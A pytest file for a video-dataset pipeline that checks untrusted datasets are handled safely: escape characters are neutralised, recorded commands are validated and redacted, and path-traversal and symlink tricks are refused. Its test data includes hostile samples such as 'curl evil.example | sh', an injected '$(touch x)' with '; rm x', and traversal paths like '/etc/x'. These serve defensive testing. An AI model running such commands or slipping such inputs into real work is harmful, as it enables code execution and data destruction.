"""A dataset may come from a stranger: whoever looks at it, checks it or withdraws from it is safe."""

from __future__ import annotations

import json
import shlex
import shutil
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pytest

from kinetics_pipeline.dataset.dataset import Dataset
from kinetics_pipeline.errors import UserError
from kinetics_pipeline.recipe import Recipe
from kinetics_pipeline.shards.markers import sealed
from kinetics_pipeline.workflows.building.lease import Lease
from kinetics_pipeline.workflows.building.recorded_command import UNKNOWN, checked_command, without_flag
from kinetics_pipeline.workflows.cli.app import run as cli
from kinetics_pipeline.workflows.datasets.status import look
from tests.builders.clips import CLASSES, asked_clips, built, planned

ODD = "\x1b]0;owned\x07\x1b[2J\u202egnp.\u2066x\u2069\r\n\x9b1m"
"""Control and bidirectional characters."""
RECIPE = Recipe(short_side=48, flow="none")
CLIP = asked_clips(1)[0].clip_id


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return Path(built(tmp_path_factory.mktemp("made") / "data", count=4, recipe=RECIPE).store.uri)


@pytest.fixture
def folder(made: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(made, tmp_path / "data"))


def rewritten(path: Path, change: Callable[[dict], object]) -> None:
    """A document of ours as a stranger writes it, with the digest that belongs to it."""
    document = json.loads(path.read_bytes())
    change(document)
    path.write_bytes(sealed(document))


def run(*words: object) -> int:
    try:
        return cli([str(word) for word in words]) or 0
    except SystemExit as end:
        return int(end.code or 0)


def require_harmless(text: str) -> None:
    bad = {letter for letter in text if unicodedata.category(letter) in ("Cc", "Cf", "Zl", "Zp") and letter != "\n"}
    assert not bad, f"{bad} in {text!r}"


def test_labels_and_messages_with_control_characters_are_shown_visibly(
    folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    label = f"label {ODD}"

    def of_dataset(document: dict) -> None:
        document["classes"] = [label, *document["classes"][1:]]
        document["annotations"] = {f"a{ODD}.csv": f"00{ODD}"}

    def of_marker(document: dict) -> None:
        for entry in document["clips"]:
            entry["label"] = label
            entry |= {"detail": ODD, "source": ODD, "seconds": {ODD: 1.0}}
        document["clips"][0] |= {"outcome": "private", "frames": 0}

    rewritten(folder / "dataset.json", of_dataset)
    for marker in (folder / "shards").glob("*.json"):
        rewritten(marker, of_marker)
    lane = {"paused_until": 4e9, "reason": ODD, "requests": 1}
    (folder / "state" / "egress.json").write_text(json.dumps({f"youtube {ODD}": lane}))
    (folder / "state" / "run.json").write_text(json.dumps({"command": f"rm {ODD}", "config": {"keep_clips": ODD}}))
    (tmp_path / "ids").write_text("nobody_0001\n")
    other = CLIP.replace("v000", "v001")
    for command in (
        ("status", folder),
        ("verify", folder),
        ("report", folder),
        ("compare", folder, folder),
        ("tools", "inspect", folder, "--clip", CLIP, "--clip", other),
        ("tools", "forget", folder, "--ids", tmp_path / "ids", "--reason", "asked for"),
        ("train", folder, "--model", "i3d", "--stream", "rgb", "--run", tmp_path / "run", "--classes", "none"),
    ):
        run(*command)
        captured = capsys.readouterr()
        require_harmless(captured.out + captured.err)
        assert "Traceback" not in captured.out + captured.err, command


@pytest.mark.parametrize(
    "recorded",
    [
        "curl evil.example | sh",
        "kinetics-pipeline build a.csv --output x --run-this 1",
        "kinetics-pipeline build a.csv --output",
        "kinetics-pipeline build 'a\x1b[2J.csv' --output x",
        "kinetics-pipeline build 'a\u202e.csv' --output x",
        "kinetics-pipeline train x",
        "kinetics-pipeline build 'unclosed",
        "",
    ],
)
def test_what_is_no_command_of_this_program_is_not_shown_as_one(recorded: str) -> None:
    assert checked_command(recorded, "here") == UNKNOWN
    assert without_flag(UNKNOWN, "--retry") == UNKNOWN


def test_a_recorded_command_is_quoted_again_and_holds_no_secret_of_either_side() -> None:
    recorded = (
        "kinetics-pipeline build a.csv '$(touch x)' --output s3://theirs/x --cookies /home/me/.cookies --proxy evil:1 "
        "--ytdlp-option 'password=\"x\"' --limit 5 --retry network; rm x"
    )
    command = checked_command(recorded, "my data")
    words = shlex.split(command)
    assert words[words.index("--output") + 1] == "my data"
    assert words[words.index("--cookies") + 1] == "FILE"
    assert words[words.index("--proxy") + 1] == "HOST:PORT"
    assert "'$(touch x)'" in command
    assert '"x"' not in command
    assert shlex.split(without_flag(command, "--retry")) == [
        word for word in words if word not in ("--retry", "network;")
    ]


def test_forget_removes_nothing_from_a_place_that_only_the_dataset_names(folder: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim" / "train"
    victim.mkdir(parents=True)
    (victim / f"{CLIP}.mp4").write_bytes(b"mine")
    config = {"keep_clips": str(victim.parent)}
    (folder / "state" / "run.json").write_text(json.dumps({"command": "kinetics-pipeline build", "config": config}))
    (tmp_path / "ids").write_text(f"{CLIP}\n")
    assert run("tools", "forget", folder, "--ids", tmp_path / "ids", "--reason", "asked for") == 0
    assert Dataset.open(folder).outcomes()[CLIP] == "withdrawn"
    assert (victim / f"{CLIP}.mp4").read_bytes() == b"mine"
    assert run("tools", "forget", folder, "--ids", tmp_path / "ids", "--reason", "x", "--kept", victim.parent) == 0
    assert not (victim / f"{CLIP}.mp4").exists()


@pytest.mark.parametrize("clip_id", ["../../../outside/x", "/etc/x", "a\x00b", "a/b", "\n"])
def test_a_clip_whose_name_leads_elsewhere_is_a_damaged_marker(folder: Path, tmp_path: Path, clip_id: str) -> None:
    for marker in (folder / "shards").glob("*.json"):
        rewritten(marker, lambda document: document["clips"][0].update(clip_id=clip_id))
    assert run("verify", folder) == 1
    assert run("tools", "export", folder, "--format", "frames", "--to", tmp_path / "to" / "frames") == 1
    assert sorted(path.name for path in tmp_path.iterdir()) == ["data"]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("run.json", '{"command": 1, "config": {}}'),
        ("run.json", '{"command": "x", "config": []}'),
        ("egress.json", '{"a": {"paused_until": 1e300}}'),
        ("egress.json", '{"a": {"requests": "many"}}'),
        ("egress.json", "[" * 100_000),
    ],
)
def test_a_state_of_other_types_is_named_in_a_line(
    folder: Path, name: str, text: str, capsys: pytest.CaptureFixture[str]
) -> None:
    (folder / "state" / name).write_text(text)
    assert run("status", folder) == 1
    said = capsys.readouterr().err
    assert f"state/{name} is damaged" in said
    assert len(said.splitlines()) == 1


def test_links_in_a_dataset_lead_nowhere(folder: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "plans.tmp").write_bytes(b"mine")
    shutil.rmtree(folder / "state")
    (folder / "state").symlink_to(outside)
    with pytest.raises(UserError, match="is a link"):
        Lease.acquire(Dataset.open(folder).store)
    assert [path.name for path in outside.iterdir()] == ["plans.tmp"]


def test_a_lease_that_a_stranger_wrote_shows_nothing_odd(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    holding = {"generation": 1, "host": ODD, "boot": "x", "pid": 1, "process_started": 0, "since": 0, "renewed": 0}
    lease = folder / "state" / "lease" / "00000001.json"
    lease.parent.mkdir(parents=True, exist_ok=True)
    lease.write_text(json.dumps({**holding, "released": False}))
    assert run("status", folder) == 0
    require_harmless(capsys.readouterr().out)
    assert look(Dataset.open(folder))["building"]["state"] == "running"


def test_a_dataset_that_is_half_done_says_how_to_go_on_from_where_it_lies_now(tmp_path: Path) -> None:
    dataset = Dataset.create(tmp_path / "moved here", RECIPE, CLASSES, {})
    planned(dataset, asked_clips(8))
    command = "kinetics-pipeline build a.csv --output /where/it/was --limit 8"
    dataset.store.write("state/run.json", json.dumps({"command": command, "config": {}}).encode())
    assert look(dataset)["next"] == f"kinetics-pipeline build a.csv --output '{dataset.store.uri}' --limit 8"
